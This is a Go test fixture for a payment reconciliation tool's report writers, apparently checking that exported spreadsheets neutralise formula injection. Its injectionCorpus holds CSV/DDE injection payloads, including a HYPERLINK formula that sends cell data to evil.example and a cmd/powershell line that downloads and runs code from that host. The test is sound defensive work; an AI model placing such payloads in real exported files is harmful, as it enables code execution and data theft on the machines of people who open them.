package writers

import (
	"errors"
	"fmt"
	"iter"
	"testing"
	"time"

	"github.com/paybatch/paybatch"
)

// injectionCorpus is text a spreadsheet would evaluate if it were written
// as a formula or typed into a cell.
var injectionCorpus = []string{
	"=1+1",
	"+SUM(A1)",
	"-2+3",
	"@cmd",
	"\t=x",
	"\r=x",
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+cmd|'/c notepad'!'A1'`,
	`-cmd|' /C powershell IEX(wget evil.example)'!A0`,
	`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
}

func money(t testing.TB, s, cur string) *paybatch.Money {
	t.Helper()
	m, err := paybatch.ParseSignedMoney(s, paybatch.MustCurrency(cur))
	if err != nil {
		t.Fatal(err)
	}
	return &m
}

func seqOf[T any](rows []T) iter.Seq2[T, error] {
	return func(yield func(T, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func fixtureReport(t testing.TB) (Report, []paybatch.ReconRow, []paybatch.ReconRow, []paybatch.RowError) {
	t.Helper()
	src := func(row int) paybatch.Source {
		return paybatch.Source{File: "refunds-2026-11-21.xlsx", Sheet: "Batch", Row: row}
	}
	exc := []paybatch.ReconRow{
		{Category: paybatch.CatAmountMismatch, MerchantTxID: "ORD-1001", LedgerAmount: money(t, "120.50", "USD"), LedgerStatus: "done",
			ProviderAmount: money(t, "102.50", "USD"), ProviderStatus: "approved", ProviderID: "tx_9f2a", Reason: "amount differs by 18.00", Source: src(2)},
		{Category: paybatch.CatStatusMismatch, MerchantTxID: "ORD-1002", LedgerAmount: money(t, "1500", "JPY"), LedgerStatus: "done",
			ProviderAmount: money(t, "1500", "JPY"), ProviderStatus: "declined", ProviderID: "tx_77c1", Reason: "05 Do not honour; card 4111 1111 1111 1111", Source: src(3)},
		{Category: paybatch.CatMissingAtProvider, MerchantTxID: "ORD-1003", LedgerAmount: money(t, "12.345", "KWD"), LedgerStatus: "done", Source: src(4)},
		{Category: paybatch.CatMissingInLedger, MerchantTxID: "ORD-1004", ProviderAmount: money(t, "0.07", "GBP"), ProviderStatus: "collected", ProviderID: "pay_01"},
		{Category: paybatch.CatPending, MerchantTxID: "ORD-1005", LedgerAmount: money(t, "999999999999.99", "USD"), ProviderStatus: "submitted", Source: src(6),
			// a Direct Debit Bacs moved to the next working day
			RequestedDate: time.Date(2027, 4, 3, 0, 0, 0, 0, time.UTC), ProviderDate: time.Date(2027, 4, 5, 0, 0, 0, 0, time.UTC)},
	}
	for i, s := range injectionCorpus {
		exc = append(exc, paybatch.ReconRow{Category: paybatch.CatRejectedBeforeSend, MerchantTxID: s,
			LedgerAmount: money(t, "-1.10", "EUR"), LedgerStatus: s, ProviderStatus: s, ProviderID: s, Reason: s,
			Source: paybatch.Source{File: s, Sheet: s, Row: 10 + i}})
	}
	matched := []paybatch.ReconRow{
		{Category: paybatch.CatMatched, MerchantTxID: "ORD-2001", LedgerAmount: money(t, "10.00", "USD"), LedgerStatus: "done",
			ProviderAmount: money(t, "10.00", "USD"), ProviderStatus: "approved", ProviderID: "tx_1", Source: src(20)},
		{Category: paybatch.CatMatched, MerchantTxID: "ORD-2002", LedgerAmount: money(t, "1.001", "KWD"), LedgerStatus: "done",
			ProviderAmount: money(t, "1.001", "KWD"), ProviderStatus: "approved", ProviderID: "tx_2", Source: src(21)},
		{Category: paybatch.CatMatched, MerchantTxID: "ORD-2003", LedgerAmount: money(t, "123456789", "JPY"), LedgerStatus: "done",
			ProviderAmount: money(t, "123456789", "JPY"), ProviderStatus: "approved", ProviderID: "tx_3", Source: src(22)},
	}
	rej := []paybatch.RowError{
		{Source: paybatch.Source{File: "refunds.csv", Row: 7}, Column: "amount", Value: "12,50",
			Err: fmt.Errorf("%w: \"12,50\" is not a plain decimal number", paybatch.ErrBadAmount)},
		{Source: paybatch.Source{File: "refunds.csv", Row: 8}, Column: "card", Value: "5500005555555559",
			Err: errors.New("card numbers are not accepted in batches")},
		{Source: paybatch.Source{File: "refunds.csv", Row: 9}, Column: "merchant_transaction_id", Value: "=1+1",
			Err: paybatch.ErrDuplicateID},
	}
	sum := paybatch.Summary{
		Categories:   map[paybatch.Category]paybatch.CategoryTotals{},
		LedgerTotals: paybatch.Totals{}, ProviderTotals: paybatch.Totals{},
	}
	for _, r := range append(append([]paybatch.ReconRow{}, exc...), matched...) {
		ct := sum.Categories[r.Category]
		if ct.Totals == nil {
			ct.Totals = paybatch.Totals{}
		}
		ct.Count++
		amt := r.LedgerAmount
		if amt == nil {
			amt = r.ProviderAmount
		}
		if err := ct.Totals.Add(*amt); err != nil {
			t.Fatal(err)
		}
		sum.Categories[r.Category] = ct
		if r.LedgerAmount != nil {
			_ = sum.LedgerTotals.Add(*r.LedgerAmount)
		}
		if r.ProviderAmount != nil {
			_ = sum.ProviderTotals.Add(*r.ProviderAmount)
		}
	}
	sum.MatchRate = float64(len(matched)) / float64(len(matched)+len(exc))
	run := paybatch.RunInfo{
		Inputs:   []paybatch.InputFile{{Path: "/data/refunds-2026-11-21.xlsx", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Rows: 1234}},
		Ledger:   &paybatch.InputFile{Path: "=ledger.csv", SHA256: "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752", Rows: 1300},
		Provider: paybatch.SmartRetry, Kind: paybatch.KindRefund,
		Started: time.Date(2026, 11, 22, 6, 30, 0, 0, time.UTC), Version: "v0.1.0-test",
	}
	return Report{Run: run, Summary: sum, Exceptions: seqOf(exc), Matched: seqOf(matched), Rejected: seqOf(rej)}, exc, matched, rej
}
